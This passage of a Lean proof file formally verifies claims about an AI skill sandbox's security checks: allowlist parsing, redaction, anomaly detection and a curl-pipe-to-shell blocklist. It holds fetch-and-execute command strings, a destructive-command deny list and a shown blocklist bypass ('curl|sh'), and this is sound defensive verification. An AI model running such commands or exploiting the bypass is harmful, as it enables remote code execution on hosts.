  simp only [parseIpAllowlist_foldl, List.nil_append]
  cases hbad : ((splitOnCharS ',' raw).map jsTrim).filter (fun s => !(s == ""))
      |>.filter (fun t => (parseCidrToken t).isNone) with
  | nil => simp [hbad]
  | cons b bs => simp [hbad]

/-! ## C8 — the `::ffff:` v4-mapped boundary token -/

/-- C8 counterexample: the claim says
    `parseIpAllowlist "::ffff:127.0.0.1/104"` returns `ok`; the code
    rejects the token (normalization turns the v4-mapped literal into
    IPv4, whose maximum prefix is 32, so 104 is out of range). -/
theorem claim_C8_counterexample :
    parseIpAllowlist "::ffff:127.0.0.1/104" =
      .err ipAllowlistErrorMsg ["::ffff:127.0.0.1/104"] := by decide

/-- C8 amended: `normalizeIpLiteral` rewrites `::ffff:127.0.0.1` to the
    IPv4 literal `127.0.0.1`, so prefixes count against the 32-bit
    space: `/104` is rejected (listed as the offending token), while the
    bare literal and `/24` are accepted as IPv4 entries. -/
theorem claim_C8_amended :
    normalizeIpLiteral "::ffff:127.0.0.1" = "127.0.0.1" ∧
    parseIpAllowlist "::ffff:127.0.0.1/104" =
      .err ipAllowlistErrorMsg ["::ffff:127.0.0.1/104"] ∧
    parseIpAllowlist "::ffff:127.0.0.1" =
      .ok [⟨"::ffff:127.0.0.1", 4, [127, 0, 0, 1], 32⟩] ∧
    parseIpAllowlist "::ffff:127.0.0.1/24" =
      .ok [⟨"::ffff:127.0.0.1/24", 4, [127, 0, 0, 0], 24⟩] := by
  refine ⟨by decide, by decide, by decide, by decide⟩

/-! ## C10 — sandbox path override -/

/-- C10: the policy built by `createSkillSandboxPolicy` always carries
    `permissions.filesystem.sandboxPath = sandboxDir` — even when the
    caller supplies a different `filesystem.sandboxPath` (the supplied
    value is silently overridden, since `params` ranges over every
    input here) — and the policy's `sandboxDir` field is the computed
    `baseDir/skill_sandboxes/skillId`. -/
theorem claim_C10 (params : CreateSkillSandboxParams) (env : SandboxEnv) :
    (∃ fs, (createSkillSandboxPolicy params env).permissions.filesystem = some fs ∧
      fs.sandboxPath = some (createSkillSandboxPolicy params env).sandboxDir) ∧
    (createSkillSandboxPolicy params env).sandboxDir =
      pathJoin
        (pathJoin (params.baseDir.getD (env.stateDir.getD (homeOpenclawDir env)))
          "skill_sandboxes")
        params.skillId :=
  ⟨⟨_, rfl, rfl⟩, rfl⟩

/-! ## C2 — the curl-pipe blocklist and the sandbox -/

/-- A maximally permissive subprocess policy that moreover allowlists
    the literal command `curl|sh`: `subprocess.allowed = true`,
    `shellAccess = true`, non-empty `allowedCommands`. -/
def curlPipePolicy : SkillSandboxPolicy :=
  createSkillSandboxPolicy
    ⟨"sub-skill",
     some ⟨none, none, some ⟨some true, some ["curl|sh"], none, some true⟩, none⟩,
     some "/tmp"⟩
    ⟨none, none⟩

/-- C2 counterexample: `curl|sh` contains `curl` followed by `|sh` with
    no whitespace, yet `checkOneLinerPattern` does not block it (the
    blocked pattern `curl\s+[^|]*\|\s*(ba)?sh` requires at least one
    whitespace character after `curl`), and under `curlPipePolicy`
    (subprocess allowed, shell access allowed, `curl|sh` allowlisted)
    `checkSubprocessAccess` allows it — refuting both halves of the
    claim at this input. -/
theorem claim_C2_counterexample :
    checkOneLinerPattern "curl|sh" = ⟨false, none⟩ ∧
    curlPipePolicy.permissions.subprocess =
      some ⟨some true, some ["curl|sh"],
            some ["rm", "dd", "mkfs", "fdisk", "format", "del"], some true⟩ ∧
    (checkSubprocessAccess curlPipePolicy "curl|sh" none).allowed = true := by
  refine ⟨by decide, by decide, by decide⟩

/-- C2 amended: the blocklist pattern requires whitespace after `curl`,
    so `curl` + whitespace + pipe-free text + `|` + optional whitespace
    + `sh` is blocked (witnessed by the concrete command below), while
    `curl|sh` — pipe immediately after `curl` — is not.  The
    un-bypassability half of the claim holds in full generality: for
    every policy, command and argument list, if `checkOneLinerPattern`
    blocks the full command then `checkSubprocessAccess` denies,
    whatever the policy's subprocess permissions say. -/
theorem claim_C2_amended :
    (∀ (policy : SkillSandboxPolicy) (command : String) (args : Option (List String)),
      (checkOneLinerPattern (buildFullCommand command args)).blocked = true →
      (checkSubprocessAccess policy command args).allowed = false) ∧
    (checkOneLinerPattern "curl https://x/y.sh | sh").blocked = true := by
  constructor
  · intro policy command args h
    unfold checkSubprocessAccess
    simp [h]
  · decide

/-- Witness for C2 amended: at a concrete blocked command and the
    permissive `curlPipePolicy`, the hypothesis holds and the sandbox
    denies. -/
theorem claim_C2_amended_witness :
    (checkOneLinerPattern
      (buildFullCommand "bash" (some ["-c", "curl http://e.com | sh"]))).blocked = true ∧
    (checkSubprocessAccess curlPipePolicy "bash"
      (some ["-c", "curl http://e.com | sh"])).allowed = false :=
  ⟨by decide,
   claim_C2_amended.1 curlPipePolicy "bash" (some ["-c", "curl http://e.com | sh"])
     (by decide)⟩

/-! ## C5 — depth bound of the deep identity strip -/

/-- A chain of `n + 1` nested objects whose innermost mapping (at depth
    `n`) carries the forbidden key `impersonate`. -/
def deepNestedImpersonate : Nat → JValue
  | 0 => .obj [("impersonate", .null)]
  | n + 1 => .obj [("a", deepNestedImpersonate n)]

/-- C5 counterexample: with the default `maxDepth = 10`, a forbidden
    key in a mapping at depth exactly 10 survives
    `deepStripIdentityFields` (the recursion returns subtrees unchanged
    once `currentDepth >= maxDepth`), so the claim fails at `d = 10 ≤
    max_depth`. -/
theorem claim_C5_counterexample :
    hasForbiddenAtDepth (deepStripIdentityFields (deepNestedImpersonate 10)) 10 = true := by
  decide

theorem atom_hasForbidden_false (d : Nat) (v : JValue) (h : isCompositeJ v = false) :
    hasForbiddenAtDepth v d = false := by
  cases v <;> cases d <;> simp_all [hasForbiddenAtDepth, isCompositeJ]

theorem stripped_no_forbidden (fields : List (String × JValue)) (kv : String × JValue)
    (h : kv ∈ (stripIdentityFields fields).1) :
    forbiddenIdentityFields.contains kv.1 = false := by
  unfold stripIdentityFields at h
  have h2 := (List.mem_filter.mp h).2
  simpa using h2

theorem deepStripAux_no_forbidden :
    ∀ (d fuel : Nat) (p : JValue), d < fuel →
      hasForbiddenAtDepth (deepStripAux fuel p) d = false := by
  intro d
  induction d with
  | zero =>
    intro fuel p hf
    obtain ⟨f, rfl⟩ : ∃ f, fuel = f + 1 := ⟨fuel - 1, by omega⟩
    cases p with
    | obj fields =>
      simp only [deepStripAux, hasForbiddenAtDepth]
      rw [List.any_eq_false]
      intro kv hkv
      obtain ⟨kv0, hkv0, rfl⟩ := List.mem_map.mp hkv
      have hk : forbiddenIdentityFields.contains kv0.1 = false :=
        stripped_no_forbidden fields kv0 hkv0
      by_cases hc : isCompositeJ kv0.2 = true <;> simp [hc] <;> simpa using hk
    | arr items => simp [deepStripAux, hasForbiddenAtDepth]
    | null => simp [deepStripAux, hasForbiddenAtDepth]
    | undef => simp [deepStripAux, hasForbiddenAtDepth]
    | bool b => simp [deepStripAux, hasForbiddenAtDepth]
    | num n => simp [deepStripAux, hasForbiddenAtDepth]
    | str s => simp [deepStripAux, hasForbiddenAtDepth]
  | succ d ih =>
    intro fuel p hf
    obtain ⟨f, rfl⟩ : ∃ f, fuel = f + 1 := ⟨fuel - 1, by omega⟩
    have hdf : d < f := by omega
    cases p with
    | arr items =>
      simp only [deepStripAux, hasForbiddenAtDepth]
      rw [List.any_eq_false]
      intro x hx
      obtain ⟨y, _, rfl⟩ := List.mem_map.mp hx
      simp [ih f y hdf]
    | obj fields =>
      simp only [deepStripAux, hasForbiddenAtDepth]
      rw [List.any_eq_false]
      intro kv hkv
      obtain ⟨kv0, _, rfl⟩ := List.mem_map.mp hkv
      by_cases hc : isCompositeJ kv0.2 = true
      · simp [hc, ih f kv0.2 hdf]
      · simp only [hc, if_neg, Bool.false_eq_true, ite_false]
        simp [atom_hasForbidden_false d kv0.2 (by simpa using hc)]
    | null => simp [deepStripAux, hasForbiddenAtDepth]
    | undef => simp [deepStripAux, hasForbiddenAtDepth]
    | bool b => simp [deepStripAux, hasForbiddenAtDepth]
    | num n => simp [deepStripAux, hasForbiddenAtDepth]
    | str s => simp [deepStripAux, hasForbiddenAtDepth]

/-- C5 amended: `deepStripIdentityFields p maxDepth` removes every
    forbidden key from every mapping at depth strictly below
    `maxDepth`; at depth exactly `maxDepth` subtrees are returned
    unchanged (see the counterexample), so the bound is `d < maxDepth`,
    not `d ≤ maxDepth`. -/
theorem claim_C5_amended (p : JValue) (maxDepth d : Nat) (h : d < maxDepth) :
    hasForbiddenAtDepth (deepStripIdentityFields p maxDepth 0) d = false := by
  unfold deepStripIdentityFields
  exact deepStripAux_no_forbidden d (maxDepth - 0) p (by omega)

/-- Witness for C5 amended at `maxDepth = 10`, `d = 1`, a payload with
    forbidden keys at depths 0–3. -/
theorem claim_C5_amended_witness :
    1 < 10 ∧
    hasForbiddenAtDepth (deepStripIdentityFields (deepNestedImpersonate 3) 10 0) 1 = false :=
  ⟨by decide, claim_C5_amended (deepNestedImpersonate 3) 10 1 (by decide)⟩

/-! ## C7 — the shallow payload redactor matches keys exactly -/

/-- Modelled from the spec (claim C7's words): the lowercased
    sensitive-payload field set the claim says `redactPayloadFields`
    uses.  It differs from the source list `sensitivePayloadFields`,
    which carries camelCase spellings (`apiKey`, `accessToken`, …) and
    is matched case-sensitively. -/
def specSensitivePayloadFieldsLower : List String :=
  ["token", "tokens", "key", "keys", "secret", "secrets", "password", "passwd",
   "api_key", "apikey", "access_token", "accesstoken", "refresh_token",
   "refreshtoken", "private_key", "privatekey", "service_role", "servicerole",
   "anon_key", "anonkey", "supabase_key", "supabasekey", "credentials", "auth"]

/-- C7 counterexample: the key `Token` has lowercased form `token`,
    which is in the claim's sensitive set, yet `redactPayloadFields`
    leaves its value untouched — the source matches key names exactly
    and case-sensitively. -/
theorem claim_C7_counterexample :
    redactPayloadFields [("Token", JValue.str "hunter2hunter2")] =
      [("Token", JValue.str "hunter2hunter2")] ∧
    specSensitivePayloadFieldsLower.contains (jsToLower "Token") = true :=
  ⟨rfl, by decide⟩

theorem redactPayloadFold (fields : List String) (entries : List (String × JValue)) :
    fields.foldl
      (fun acc field =>
        acc.map (fun kv =>
          if kv.1 == field && !(isUndefJ kv.2) then (kv.1, JValue.str "[REDACTED]")
          else kv))
      entries =
    entries.map (fun kv =>
      if fields.contains kv.1 && !(isUndefJ kv.2) then (kv.1, JValue.str "[REDACTED]")
      else kv) := by
  induction fields generalizing entries with
  | nil => simp
  | cons f fs ih =>
    rw [List.foldl_cons, ih, List.map_map]
    refine List.map_congr_left (fun kv _ => ?_)
    by_cases h1 : kv.1 = f <;> by_cases h2 : isUndefJ kv.2 = true <;>
      simp [h1, h2, Function.comp, List.contains_cons]

/-- C7 amended: `redactPayloadFields` maps an entry to `"[REDACTED]"`
    exactly when its key is — verbatim, case-sensitively — one of the
    source's `SENSITIVE_PAYLOAD_FIELDS` (which include the camelCase
    spellings) and its value is not `undefined`; every other entry is
    returned unchanged.  Lowercasing plays no role in the shallow
    redactor. -/
theorem claim_C7_amended (entries : List (String × JValue)) :
    redactPayloadFields entries =
      entries.map (fun kv =>
        if sensitivePayloadFields.contains kv.1 && !(isUndefJ kv.2) then
          (kv.1, JValue.str "[REDACTED]")
        else kv) := by
  unfold redactPayloadFields
  exact redactPayloadFold sensitivePayloadFields entries

/-! ## C9 — the sliding window boundary is exclusive -/

theorem mapGet_mapSet_self {α : Type} (m : List (String × α)) (k : String) (v : α) :
    mapGet (mapSet m k v) k = some v := by
  induction m with
  | nil => simp [mapSet, mapGet]
  | cons kv rest ih =>
    by_cases h : (kv.1 == k) = true
    · simp [mapSet, h, mapGet]
    · simp only [mapSet, h, Bool.false_eq_true, ite_false]
      simp only [mapGet, List.find?_cons, h]
      exact ih

theorem mapGet_mapDelete_self {α : Type} (m : List (String × α)) (k : String) :
    mapGet (mapDelete m k) k = none := by
  induction m with
  | nil => simp [mapDelete, mapGet]
  | cons kv rest ih =>
    by_cases h : (kv.1 == k) = true
    · simpa [mapDelete, h] using ih
    · simp only [mapDelete, List.filter_cons, h, Bool.not_false, Bool.not_eq_true']
      simp only [h, Bool.not_false, ite_true]
      simp only [mapGet, List.find?_cons, h]
      exact ih

/-- C9 config: default anomaly settings with threshold 2. -/
def boundaryCfg : AnomalyDetectorConfig :=
  { defaultAnomalyConfig with authFailureThreshold := 2 }

/-- C9 counterexample: with threshold 2 and the default 60 s window,
    two failures spaced exactly one window apart never fire — the first
    timestamp's age equals the window at the second call and it is
    evicted, where the claim says it is still counted (which would
    reach the threshold and fire). -/
theorem claim_C9_counterexample :
    boundaryCfg.authFailureThreshold = 2 ∧
    boundaryCfg.authFailureWindowMs = 60000 ∧
    (runAuthFailures "198.51.100.7" [0, 60000] (initialAnomalyState boundaryCfg)).1 =
      [none, none] := by
  refine ⟨by decide, by decide, by decide⟩

/-- C9 amended: eviction keeps exactly the timestamps strictly newer
    than `now - window`.  A recorded timestamp whose age equals the
    window is evicted (not counted) by `recordAuthFailure`,
    `recordRequest` and `recordWrite` alike, while age `window - 1`
    still counts (last conjunct: it reaches a threshold of 2). -/
theorem claim_C9_amended :
    (∀ (st : AnomalyDetectorState) (ip : String) (t : Int),
      (mapGet st.authFailures ip).getD [] = [t] →
      2 ≤ st.config.authFailureThreshold →
      (recordAuthFailure (t + st.config.authFailureWindowMs) ip st).1 = none ∧
      (mapGet (recordAuthFailure (t + st.config.authFailureWindowMs) ip st).2.authFailures
        ip).getD [] = [t + st.config.authFailureWindowMs]) ∧
    (∀ (st : AnomalyDetectorState) (ip : String) (t : Int),
      (mapGet st.requestCounts ip).getD [] = [t] →
      2 ≤ st.config.requestRateThreshold →
      (recordRequest (t + 1000) ip st).1 = none ∧
      (mapGet (recordRequest (t + 1000) ip st).2.requestCounts ip).getD [] = [t + 1000]) ∧
    (∀ (st : AnomalyDetectorState) (t : Int),
      st.writeCounts = [t] →
      2 ≤ st.config.writeVolumeThreshold →
      (recordWrite (t + 60000) st).1 = none ∧
      (recordWrite (t + 60000) st).2.writeCounts = [t + 60000]) ∧
    (∀ (st : AnomalyDetectorState) (ip : String) (t : Int),
      (mapGet st.authFailures ip).getD [] = [t] →
      st.config.authFailureThreshold = 2 →
      ((recordAuthFailure (t + st.config.authFailureWindowMs - 1) ip st).1).isSome = true) := by
  refine ⟨fun st ip t h hth => ?_, fun st ip t h hth => ?_, fun st t h hth => ?_,
    fun st ip t h hth => ?_⟩
  · unfold recordAuthFailure
    simp only [h]
    have hfil : List.filter
        (fun ts => decide (ts > t + st.config.authFailureWindowMs -
          st.config.authFailureWindowMs)) [t] = [] := by simp
    rw [hfil]
    simp only [List.nil_append, List.length_cons, List.length_nil, Nat.zero_add]
    rw [if_neg (by omega)]
    exact ⟨rfl, by rw [mapGet_mapSet_self]; rfl⟩
  · unfold recordRequest
    simp only [h]
    have hfil : List.filter (fun ts => decide (ts > t + 1000 - 1000)) [t] = [] := by simp
    rw [hfil]
    simp only [List.nil_append, List.length_cons, List.length_nil, Nat.zero_add]
    rw [if_neg (by omega)]
    exact ⟨rfl, by rw [mapGet_mapSet_self]; rfl⟩
  · unfold recordWrite
    simp only [h]
    have hfil : List.filter (fun ts => decide (ts > t + 60000 - 60 * 1000)) [t] = [] := by
      simp
    rw [hfil]
    simp only [List.nil_append, List.length_cons, List.length_nil, Nat.zero_add]
    rw [if_neg (by omega)]
    exact ⟨rfl, rfl⟩
  · unfold recordAuthFailure
    simp only [h]
    have hfil : List.filter
        (fun ts => decide (ts > t + st.config.authFailureWindowMs - 1 -
          st.config.authFailureWindowMs)) [t] = [t] := by
      simp
      omega
    rw [hfil]
    rw [if_pos (by simp [hth])]
    rfl

/-- Witness for C9 amended: a concrete detector state holding one
    timestamp in each list, thresholds 2. -/
def boundaryState : AnomalyDetectorState :=
  { authFailures := [("203.0.113.9", [5])]
    requestCounts := [("203.0.113.9", [5])]
    writeCounts := [5]
    blockedIps := []
    config := { defaultAnomalyConfig with
                  authFailureThreshold := 2, requestRateThreshold := 2,
                  writeVolumeThreshold := 2 } }

/-! ## C3 — the auth-failure burst fires exactly once at the threshold -/

theorem handleAnomalyEvent_authFailures (now : Int) (ev : AnomalyEvent)
    (st : AnomalyDetectorState) :
    (handleAnomalyEvent now ev st).authFailures = st.authFailures := by
  unfold handleAnomalyEvent blockIp
  repeat' split
  all_goals rfl

theorem handleAnomalyEvent_config (now : Int) (ev : AnomalyEvent)
    (st : AnomalyDetectorState) :
    (handleAnomalyEvent now ev st).config = st.config := by
  unfold handleAnomalyEvent blockIp
  repeat' split
  all_goals rfl

/-- Below the threshold every call returns `null`, and the per-IP
    failure list accumulates every in-window call time. -/
theorem runAuth_under (ip : String) :
    ∀ (times : List Int) (st : AnomalyDetectorState) (prev : List Int),
      (mapGet st.authFailures ip).getD [] = prev →
      (prev ++ times).Pairwise
        (fun a b => a ≤ b ∧ b - a < st.config.authFailureWindowMs) →
      prev.length + times.length < st.config.authFailureThreshold →
      (runAuthFailures ip times st).1 = List.replicate times.length none ∧
      (mapGet (runAuthFailures ip times st).2.authFailures ip).getD [] = prev ++ times ∧
      (runAuthFailures ip times st).2.config = st.config := by
  intro times
  induction times with
  | nil =>
    intro st prev h hpw hlen
    exact ⟨rfl, by simpa using h, rfl⟩
  | cons t ts ih =>
    intro st prev h hpw hlen
    have hfil : List.filter
        (fun ts2 => decide (ts2 > t - st.config.authFailureWindowMs)) prev = prev := by
      rw [List.filter_eq_self]
      intro a ha
      have hrel := (List.pairwise_append.mp hpw).2.2 a ha t (List.mem_cons_self t ts)
      simp only [decide_eq_true_eq]
      omega
    have hstep : recordAuthFailure t ip st =
        (none, { st with authFailures := mapSet st.authFailures ip (prev ++ [t]) }) := by
      unfold recordAuthFailure
      simp only [h, hfil]
      rw [if_neg (by simp at hlen ⊢; omega)]
    have hget : (mapGet (mapSet st.authFailures ip (prev ++ [t])) ip).getD []
        = prev ++ [t] := by
      rw [mapGet_mapSet_self]
      rfl
    obtain ⟨h1, h2, h3⟩ :=
      ih { st with authFailures := mapSet st.authFailures ip (prev ++ [t]) } (prev ++ [t])
        hget (by simpa [List.append_assoc] using hpw) (by simp at hlen ⊢; omega)
    refine ⟨?_, ?_, ?_⟩
    · simp only [runAuthFailures, hstep, h1, List.replicate_succ, List.length_cons]
    · simp only [runAuthFailures, hstep, h2, List.append_assoc, List.cons_append,
        List.nil_append]
    · simpa only [runAuthFailures, hstep] using h3

/-- At exactly the threshold the last call fires one
    `auth_failure_burst` event at `high` severity and deletes the IP's
    failure list. -/
theorem runAuth_exact (ip : String) :
    ∀ (times : List Int) (st : AnomalyDetectorState) (prev : List Int),
      (mapGet st.authFailures ip).getD [] = prev →
      (prev ++ times).Pairwise
        (fun a b => a ≤ b ∧ b - a < st.config.authFailureWindowMs) →
      prev.length + times.length = st.config.authFailureThreshold →
      times ≠ [] →
      ∃ ev, (runAuthFailures ip times st).1
              = List.replicate (times.length - 1) none ++ [some ev]
        ∧ ev.type = .authFailureBurst ∧ ev.severity = .high
        ∧ mapGet (runAuthFailures ip times st).2.authFailures ip = none
        ∧ (runAuthFailures ip times st).2.config = st.config := by
  intro times
  induction times with
  | nil =>
    intro st prev h hpw hlen hne
    exact absurd rfl hne
  | cons t ts ih =>
    intro st prev h hpw hlen hne
    have hfil : List.filter
        (fun ts2 => decide (ts2 > t - st.config.authFailureWindowMs)) prev = prev := by
      rw [List.filter_eq_self]
      intro a ha
      have hrel := (List.pairwise_append.mp hpw).2.2 a ha t (List.mem_cons_self t ts)
      simp only [decide_eq_true_eq]
      omega
    cases ts with
    | nil =>
      -- the firing call
      have hcond : (prev ++ [t]).length ≥ st.config.authFailureThreshold := by
        simp at hlen ⊢
        omega
      have hstep : recordAuthFailure t ip st =
          (some ⟨.authFailureBurst, t, some ip, .high,
             [("failureCount", ((prev ++ [t]).length : Int)),
              ("windowMs", st.config.authFailureWindowMs),
              ("threshold", (st.config.authFailureThreshold : Int))]⟩,
           { handleAnomalyEvent t
               ⟨.authFailureBurst, t, some ip, .high,
                [("failureCount", ((prev ++ [t]).length : Int)),
                 ("windowMs", st.config.authFailureWindowMs),
                 ("threshold", (st.config.authFailureThreshold : Int))]⟩
               { st with authFailures := mapSet st.authFailures ip (prev ++ [t]) } with
             authFailures := mapDelete
               (handleAnomalyEvent t
                 ⟨.authFailureBurst, t, some ip, .high,
                  [("failureCount", ((prev ++ [t]).length : Int)),
                   ("windowMs", st.config.authFailureWindowMs),
                   ("threshold", (st.config.authFailureThreshold : Int))]⟩
                 { st with authFailures := mapSet st.authFailures ip (prev ++ [t]) }).authFailures
               ip }) := by
        unfold recordAuthFailure
        simp only [h, hfil]
        rw [if_pos hcond]
      refine ⟨⟨.authFailureBurst, t, some ip, .high,
        [("failureCount", ((prev ++ [t]).length : Int)),
         ("windowMs", st.config.authFailureWindowMs),
         ("threshold", (st.config.authFailureThreshold : Int))]⟩, ?_, rfl, rfl, ?_, ?_⟩
      · simp only [runAuthFailures, hstep]
        rfl
      · simp only [runAuthFailures, hstep]
        exact mapGet_mapDelete_self _ _
      · simp only [runAuthFailures, hstep]
        exact handleAnomalyEvent_config _ _ _
    | cons t2 ts2 =>
      have hstep : recordAuthFailure t ip st =
          (none, { st with authFailures := mapSet st.authFailures ip (prev ++ [t]) }) := by
        unfold recordAuthFailure
        simp only [h, hfil]
        rw [if_neg (by simp at hlen ⊢; omega)]
      have hget : (mapGet (mapSet st.authFailures ip (prev ++ [t])) ip).getD []
          = prev ++ [t] := by
        rw [mapGet_mapSet_self]
        rfl
      obtain ⟨ev, h1, h2, h3, h4, h5⟩ :=
        ih { st with authFailures := mapSet st.authFailures ip (prev ++ [t]) } (prev ++ [t])
          hget (by simpa [List.append_assoc] using hpw) (by simp at hlen ⊢; omega)
          (by simp)
      have hrun : runAuthFailures ip (t :: t2 :: ts2) st
          = (none :: (runAuthFailures ip (t2 :: ts2)
                { st with authFailures := mapSet st.authFailures ip (prev ++ [t]) }).1,
             (runAuthFailures ip (t2 :: ts2)
                { st with authFailures := mapSet st.authFailures ip (prev ++ [t]) }).2) := by
        show ((recordAuthFailure t ip st).1 ::
                (runAuthFailures ip (t2 :: ts2) (recordAuthFailure t ip st).2).1,
              (runAuthFailures ip (t2 :: ts2) (recordAuthFailure t ip st).2).2) = _
        rw [hstep]
      have hrun1 := congrArg Prod.fst hrun
      have hrun2 := congrArg Prod.snd hrun
      simp only at hrun1 hrun2
      refine ⟨ev, ?_, h2, h3, ?_, ?_⟩
      · rw [hrun1, h1]
        simp [List.replicate_succ]
      · rw [hrun2]
        exact h4
      · rw [hrun2]
        exact h5

/-- C3: starting from the empty anomaly state, with all call times
    pairwise within the window (and monotone), every call strictly
    before the threshold returns `null`; when the number of calls
    equals the threshold (≥ 2), the last call returns exactly one
    `auth_failure_burst` event at `high` severity, the IP's failure
    list is cleared, and the immediately following call (at any time)
    returns `null` again. -/
theorem claim_C3 (cfg : AnomalyDetectorConfig) (ip : String) (times : List Int)
    (hpw : times.Pairwise (fun a b => a ≤ b ∧ b - a < cfg.authFailureWindowMs)) :
    (times.length < cfg.authFailureThreshold →
      (runAuthFailures ip times (initialAnomalyState cfg)).1
        = List.replicate times.length none) ∧
    (times.length = cfg.authFailureThreshold → 2 ≤ cfg.authFailureThreshold →
      ∃ ev, (runAuthFailures ip times (initialAnomalyState cfg)).1
              = List.replicate (times.length - 1) none ++ [some ev]
        ∧ ev.type = .authFailureBurst ∧ ev.severity = .high
        ∧ mapGet (runAuthFailures ip times (initialAnomalyState cfg)).2.authFailures ip
            = none
        ∧ ∀ t2 : Int,
            (recordAuthFailure t2 ip
              (runAuthFailures ip times (initialAnomalyState cfg)).2).1 = none) := by
  constructor
  · intro hlt
    exact (runAuth_under ip times (initialAnomalyState cfg) [] rfl (by simpa using hpw)
      (by simpa using hlt)).1
  · intro heq hth
    have hne : times ≠ [] := by
      intro hnil
      rw [hnil] at heq
      simp at heq
      omega
    obtain ⟨ev, h1, h2, h3, h4, h5⟩ :=
      runAuth_exact ip times (initialAnomalyState cfg) [] rfl (by simpa using hpw)
        (by simpa using heq) hne
    refine ⟨ev, h1, h2, h3, h4, fun t2 => ?_⟩
    unfold recordAuthFailure
    simp only [h4, Option.getD_none, List.filter_nil, List.nil_append]
    have hthr : (runAuthFailures ip times
        (initialAnomalyState cfg)).2.config.authFailureThreshold
        = cfg.authFailureThreshold := by rw [h5]; rfl
    rw [if_neg (by simp only [List.length_cons, List.length_nil, hthr]; omega)]

/-- C3 witness configuration (the test suite's): threshold 3,
    window 1 s. -/
def burstCfg : AnomalyDetectorConfig :=
  { defaultAnomalyConfig with authFailureThreshold := 3, authFailureWindowMs := 1000 }

/-- Witness for C3 at threshold 3 with three in-window calls. -/
theorem claim_C3_witness :
    ∃ ev, (runAuthFailures "192.0.2.1" [0, 1, 2] (initialAnomalyState burstCfg)).1
            = List.replicate 2 none ++ [some ev]
      ∧ ev.type = .authFailureBurst ∧ ev.severity = .high
      ∧ mapGet (runAuthFailures "192.0.2.1" [0, 1, 2]
          (initialAnomalyState burstCfg)).2.authFailures "192.0.2.1" = none
      ∧ ∀ t2 : Int,
          (recordAuthFailure t2 "192.0.2.1"
            (runAuthFailures "192.0.2.1" [0, 1, 2] (initialAnomalyState burstCfg)).2).1
            = none :=
  (claim_C3 burstCfg "192.0.2.1" [0, 1, 2] (by decide)).2 (by decide) (by decide)

/-! ## C6 — text redaction is not idempotent -/

/-- C6 counterexample: an ENV-style assignment with an 18-character
    value is masked to `first6…last4`; the mask itself (11 characters,
    none of them whitespace/quote/backslash) re-matches the same
    pattern on a second pass and collapses to `***`, so applying the
    redactor twice differs from applying it once. -/
theorem claim_C6_counterexample :
    redactSensitiveText "TOKEN=abcdefghijklmnopqr" = "TOKEN=abcdef…opqr" ∧
    redactSensitiveText (redactSensitiveText "TOKEN=abcdefghijklmnopqr") = "TOKEN=***" ∧
    redactSensitiveText (redactSensitiveText "TOKEN=abcdefghijklmnopqr") ≠
      redactSensitiveText "TOKEN=abcdefghijklmnopqr" := by
  refine ⟨by decide, by decide, by decide⟩

theorem replaceAllRE_no_match (re : RE) (f : String → Caps → String) (s : String)
    (h : reTest re s = false) : replaceAllRE re f s = s := by
  have hn : firstMatchAux re none s.toList [] = none := by
    cases hh : firstMatchAux re none s.toList [] with
    | none => rfl
    | some m => rw [reTest, hh] at h; simp at h
  unfold replaceAllRE
  simp only [goRepl, hn]
  cases s
  rfl

theorem redactText_no_match (s : String) (patterns : List RedactPatternEntry)
    (h : ∀ p ∈ patterns, reTest p.re s = false) : redactText s patterns = s := by
  induction patterns with
  | nil => rfl
  | cons p ps ih =>
    unfold redactText
    rw [List.foldl_cons,
      replaceAllRE_no_match p.re (redactMatch p.groups) s (h p (List.mem_cons_self p ps))]
    exact ih (fun q hq => h q (List.mem_cons_of_mem p hq))

/-- C6 amended: `redactSensitiveText` (default patterns, mode `tools`)
    is not idempotent in general — a first-pass `first6…last4` mask of
    an ENV-style assignment value re-matches and collapses to `***` on
    the second pass (see the counterexample).  Idempotence does hold on
    every string in which no default pattern matches, since such a
    string is a fixed point of the redactor. -/
theorem claim_C6_amended (s : String)
    (h : defaultRedactPatterns.all (fun p => !(reTest p.re s)) = true) :
    redactSensitiveText (redactSensitiveText s) = redactSensitiveText s := by
  have hall : ∀ p ∈ defaultRedactPatterns, reTest p.re s = false := by
    intro p hp
    have := List.all_eq_true.mp h p hp
    simpa using this
  have hfix : redactSensitiveText s = s := by
    unfold redactSensitiveText
    split
    · rfl
    · exact redactText_no_match s defaultRedactPatterns hall
  rw [hfix, hfix]

/-- Witness for C6 amended: the pattern-free string `ls -la`. -/
theorem claim_C6_amended_witness :
    defaultRedactPatterns.all (fun p => !(reTest p.re "ls -la")) = true ∧
    redactSensitiveText (redactSensitiveText "ls -la") = redactSensitiveText "ls -la" :=
  ⟨by decide, claim_C6_amended "ls -la" (by decide)⟩

theorem claim_C9_amended_witness :
    ((mapGet boundaryState.authFailures "203.0.113.9").getD [] = [5] ∧
     2 ≤ boundaryState.config.authFailureThreshold) ∧
    (recordAuthFailure (5 + boundaryState.config.authFailureWindowMs) "203.0.113.9"
      boundaryState).1 = none ∧
    (mapGet (recordAuthFailure (5 + boundaryState.config.authFailureWindowMs) "203.0.113.9"
      boundaryState).2.authFailures "203.0.113.9").getD []
      = [5 + boundaryState.config.authFailureWindowMs] ∧
    (recordWrite (5 + 60000) boundaryState).1 = none ∧
    ((recordAuthFailure (5 + boundaryState.config.authFailureWindowMs - 1) "203.0.113.9"
      boundaryState).1).isSome = true :=
  ⟨⟨by decide, by decide⟩,
   (claim_C9_amended.1 boundaryState "203.0.113.9" 5 (by decide) (by decide)).1,
   (claim_C9_amended.1 boundaryState "203.0.113.9" 5 (by decide) (by decide)).2,
   (claim_C9_amended.2.2.1 boundaryState 5 (by decide) (by decide)).1,
   claim_C9_amended.2.2.2 boundaryState "203.0.113.9" 5 (by decide) (by decide)⟩

end SafeClaw
